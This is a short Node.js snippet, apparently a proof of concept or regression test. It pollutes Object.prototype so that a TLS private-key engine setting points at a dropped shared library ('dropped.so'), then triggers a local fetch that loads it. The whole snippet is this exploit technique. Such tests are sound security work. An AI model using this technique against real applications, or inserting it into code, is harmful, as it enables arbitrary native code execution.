Object.prototype.privateKeyIdentifier = 'x';
Object.prototype.privateKeyEngine = __dirname + '/dropped.so';
fetch('https://127.0.0.1:4/').catch(() => {});
